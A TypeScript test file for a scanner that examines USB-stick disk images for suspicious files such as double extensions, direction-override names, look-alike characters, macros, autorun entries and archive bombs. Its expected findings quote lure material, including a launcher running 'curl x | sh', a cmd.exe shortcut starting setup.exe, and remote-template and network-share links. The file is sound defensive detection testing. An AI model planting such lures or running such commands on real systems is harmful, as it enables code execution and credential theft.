/** The look-out over whole sticks: each case is found once, as what it is, and an ordinary stick has nothing. */

import { describe, expect, it } from 'vitest';
import { REGISTERED_DRIVERS } from '../../kernel-worker/fs/registry.ts';
import type { Finding, LookoutHost, LookoutSlice } from '../../kernel-worker/lookout/finding.ts';
import { Lookout } from '../../kernel-worker/lookout/scan.ts';
import { Kernel } from '../../kernel-worker/rump/kernel.ts';
import { memoryBlocks } from '../../kernel-worker/rumpuser/memory.ts';
import { ordinaryStick, suspiciousStick } from '../builders/suspicious-stick.ts';
import { hostileImages, testImages } from '../images/library.ts';

const HOST: LookoutHost = { platform: 'linux', nowMs: Date.UTC(2026, 10, 23) };

async function look(image: Uint8Array): Promise<{ findings: Finding[]; last: LookoutSlice; slices: number }> {
  const kernel = new Kernel(memoryBlocks(image), { drivers: REGISTERED_DRIVERS });
  const scan = new Lookout(await kernel.mount({ partition: null }), HOST, (failure) => failure.report());
  const findings: Finding[] = [];
  for (let slices = 1; ; slices++) {
    const last = scan.next(7);
    findings.push(...last.findings);
    if (last.end) return { findings, last, slices };
  }
}

/** 'path: kind, what it quotes', with what cannot be seen written out. */
function line({ kind, path, quote }: Finding): string {
  const text = `${path}: ${kind}${quote === undefined ? '' : `, ${quote}`}`;
  return text.replace(/[^\x20-\x7e]/g, (unit) => `<${unit.charCodeAt(0).toString(16)}>`);
}

describe('the look-out over a stick with everything on it', () => {
  it('finds each case, and what it quotes', async () => {
    const { findings, last, slices } = await look(suspiciousStick());
    expect(findings.map(line).sort()).toEqual([
      '/<a0>: blank-name, [U+00A0]',
      '/Documents.lnk: folder-double',
      '/Documents.lnk: shortcut-command, C:\\Windows\\System32\\cmd.exe /c start setup.exe & start Documents',
      '/Holiday.lnk: shortcut, E:\\Pictures',
      '/Offer.url: link, https://example.com/offer',
      '/P<430>ypal.txt: look-alike, Paypal.txt',
      '/P<430>ypal.txt: mixed-script, <430> (Cyrillic)',
      '/Search.url: link-scheme, search-ms:query=invoice&crumb=location:x',
      '/Share.lnk: shortcut-network, \\\\198.51.100.7\\share',
      '/autorun.inf: autorun, setup.exe /quiet',
      '/bomb.zip: archive-bomb',
      '/cleanup.bat: script',
      '/contract.docx: remote-template, http://198.51.100.7/t.dotm',
      '/disk.iso: disk-image',
      '/drawing.svg: picture-script',
      '/form.pdf: pdf-script',
      '/future.txt: strange-date',
      '/holiday.jpg: disguised-program',
      '/installer.exe: program',
      '/invoice.pdf.exe: double-extension',
      '/invoice<202e>fdp.exe: direction-override, invoice[U+202E]fdp.exe',
      '/note.rtf: embedded-object',
      '/old.doc: macros',
      '/order.docm: macros',
      '/order.docx: macros-disguised',
      '/pay<200b>ment.txt: invisible-name, pay[U+200B]ment.txt',
      '/private.7z: encrypted-archive',
      '/private.zip: encrypted-archive',
      '/second.bin: shared-content, /first.bin',
      '/secret.docx: encrypted-document',
      '/setup.exe: hidden-program',
      '/song.mp3: disguised-program',
      '/start.pdf: pdf-launch',
      '/statement.doc          .scr: double-extension',
      '/statement.doc          .scr: spaced-extension',
      '/tool.desktop: launcher, sh -c "curl x | sh"',
      '/view.scf: network-lure, \\\\198.51.100.7\\s\\i.ico',
    ]);
    expect(last.failures).toEqual([]);
    expect(last.files).toBe(53);
    expect(slices).toBeGreaterThan(5);
  });
});

describe('the look-out over an ordinary stick', () => {
  it('finds nothing', async () => {
    const { findings, last } = await look(ordinaryStick());
    expect(findings).toEqual([]);
    expect(last).toMatchObject({ counts: {}, files: 16, folders: 1, failureCount: 0, end: true });
  });
});

describe('the look-out over the reference images', () => {
  const names =
    /^(fat32-c4k-kernel|exfat-s512-c4k-fuse|ntfs.*|ext4-default-4k|hfsplus-4k|iso-rrj-xorriso|netbsd-udf-0x0201)$/;

  it.each(
    testImages(/./)
      .filter(({ name }) => names.test(name))
      .map((image) => [image.name, image] as const),
  )('%s: has no danger, though it is full of odd names', async (_, image) => {
    const { findings, last } = await look(image.bytes());
    expect(findings.filter(({ severity }) => severity === 'danger').map(line)).toEqual([]);
    expect(last.failures).toEqual([]);
    expect(last.files).toBe(image.manifest('').filter(({ type }) => type !== 'dir').length);
  });
});

describe('the look-out over damaged media', () => {
  const damaged = hostileImages(/^(fat16|exfat|ntfs|ext4|iso|hfsplus)$/);

  it.each(
    damaged.filter((_, i) => i % Math.ceil(damaged.length / 24) === 0).map((image) => [image.name, image] as const),
  )('%s: comes to its end, and tells what it could not look at', async (_, image) => {
    let looked: Awaited<ReturnType<typeof look>>;
    try {
      looked = await look(image.bytes());
    } catch (error) {
      // Nothing is mounted then, and nothing to be looked at.
      expect((error as { kind?: string }).kind).toMatch(/damage|unsupported|medium/);
      return;
    }
    expect(looked.last.end).toBe(true);
  });
});
